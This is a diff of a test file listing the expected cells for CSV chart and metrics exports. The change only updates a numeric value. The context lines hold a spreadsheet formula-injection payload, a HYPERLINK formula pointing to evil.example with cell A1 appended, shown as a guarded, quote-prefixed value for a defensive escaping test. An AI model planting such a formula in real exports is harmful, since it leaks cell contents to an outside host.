@@ -40,7 +40,7 @@ WANT = {
     ],
     "charts/csv-lines.csv": [
         (0, 2, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
-        (1, 0, "2019"), (1, 1, "-0.3"), (1, 2, "-0.3"),
+        (1, 0, "2019"), (1, 1, "-0.55"), (1, 2, "-0.55"),
     ],
     "charts/csv-matrix.csv": [
         (1, 0, "'-4"), (1, 1, "'=1+2"), (1, 3, "'@note"), (2, 1, "'+3"),
@@ -58,7 +58,7 @@ WANT = {
 # Raw lines that must appear as they are: negative numbers unquoted, guarded cells
 # quoted, the scenario named "-evil" guarded in metrics.csv.
 WANT_RAW = {
-    "charts/csv-lines.csv": ["\n2019,-0.3,-0.3\n"],
+    "charts/csv-lines.csv": ["\n2019,-0.55,-0.55\n"],
     "charts/csv-bars.csv": ["\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",3\n"],
     "data/metrics.csv": ["\nfinance.discount_rate,\"'-evil\",,0.2,fraction\n"],
 }
